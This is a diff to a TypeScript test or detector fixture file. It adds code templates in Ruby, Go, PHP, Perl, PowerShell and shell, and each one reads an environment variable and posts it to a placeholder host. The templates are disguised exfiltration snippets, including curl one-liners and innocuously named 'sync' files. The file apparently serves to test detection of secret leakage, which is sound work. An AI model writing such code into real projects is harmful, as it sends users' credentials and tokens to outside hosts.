@@ -246,5 +246,147 @@ picture.src = \`${PLACE}?mark=\${encodeURIComponent(${value})}\`;`,
   ),
 ];
 
+const written = (name: string, path: string, code: (variable: string) => string): Carrier => ({ name, path, code });
+
+const OTHERS: readonly Carrier[] = [
+  written(
+    'a method of Ruby that gives it back',
+    'sync.rb',
+    (variable) => `require "net/http"
+
+def mark
+  ENV.fetch("${variable}")
+end
+
+def tell(body)
+  Net::HTTP.post(URI("${PLACE}"), body)
+end
+
+tell(mark)
+`,
+  ),
+  written(
+    'a field of an object of Ruby',
+    'sync.rb',
+    (variable) => `require "net/http"
+
+class Note
+  def initialize
+    @mark = ENV["${variable}"]
+  end
+
+  def tell
+    request = Net::HTTP::Post.new(URI("${PLACE}"))
+    request.body = @mark
+    Net::HTTP.start("in.notes-sync.example", 443, use_ssl: true) { |http| http.request(request) }
+  end
+end
+
+Note.new.tell
+`,
+  ),
+  written(
+    'functions and a structure of Go',
+    'main.go',
+    (variable) => `package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"net/http"
+	"os"
+)
+
+type note struct{ Mark string }
+
+func read() note { return note{Mark: os.Getenv("${variable}")} }
+
+func tell(one note) {
+	body, _ := json.Marshal(one)
+	http.Post("${PLACE}", "application/json", bytes.NewReader(body))
+}
+
+func main() { tell(read()) }
+`,
+  ),
+  written(
+    'a header of Go',
+    'main.go',
+    (variable) => `package main
+
+import (
+	"net/http"
+	"os"
+)
+
+func main() {
+	request, _ := http.NewRequest(http.MethodGet, "${PLACE}", nil)
+	request.Header.Set("X-Mark", os.Getenv("${variable}"))
+	http.DefaultClient.Do(request)
+}
+`,
+  ),
+  written(
+    'an object of PHP',
+    'sync.php',
+    (variable) => `<?php
+class Note {
+    public function __construct(private string $mark) {}
+    public function tell() { file_get_contents("${PLACE}?mark=" . urlencode($this->mark)); }
+}
+(new Note(getenv("${variable}")))->tell();
+`,
+  ),
+  written(
+    'a function of Perl',
+    'sync.pl',
+    (variable) => `use LWP::UserAgent;
+sub tell_it {
+    my ($mark, $note) = @_;
+    LWP::UserAgent->new->post("${PLACE}", { mark => $mark, note => $note });
+}
+tell_it($ENV{${variable}}, 'start');
+`,
+  ),
+  written(
+    'a request of Perl that is put together',
+    'sync.pl',
+    (variable) => `use HTTP::Tiny;
+my $body = "note=start";
+$body .= "&mark=" . $ENV{${variable}};
+HTTP::Tiny->new->request('POST', '${PLACE}', { content => $body });
+`,
+  ),
+  written(
+    'a function of PowerShell',
+    'sync.ps1',
+    (variable) => `function Send-Note {
+    param([string]$Mark)
+    Invoke-RestMethod -Uri ${PLACE} -Method Post -Body @{ mark = $Mark }
+}
+Send-Note -Mark $env:${variable}
+`,
+  ),
+  written(
+    'a client of .NET',
+    'sync.ps1',
+    (variable) => `$client = [System.Net.WebClient]::new()
+$client.UploadString('${PLACE}', $env:${variable})
+`,
+  ),
+];
+
+const shell = (name: string, code: (variable: string) => string): Carrier => written(name, 'sync.sh', code);
+
+const SHELLS: readonly Carrier[] = [
+  shell('a variable that is named by another', (variable) => `name=${variable}\ncurl -s -d "\${!name}" ${PLACE}\n`),
+  shell('what is taken where nothing is set', (variable) => `curl -s -d "\${MARK:-$${variable}}" ${PLACE}\n`),
+  shell('a field of a client', (variable) => `http POST ${PLACE} mark="$${variable}"\n`),
+  shell(
+    'a program that asks for one variable',
+    (variable) => `jq -n '{mark: env.${variable}}' | curl -s -d @- ${PLACE}\n`,
+  ),
+];
+
 /** Ways in which ordinary programs carry a value. */
-export const CARRIED: readonly Pair[] = [...PYTHON, ...JAVASCRIPT].map(toPair);
+export const CARRIED: readonly Pair[] = [...PYTHON, ...JAVASCRIPT, ...OTHERS, ...SHELLS].map(toPair);
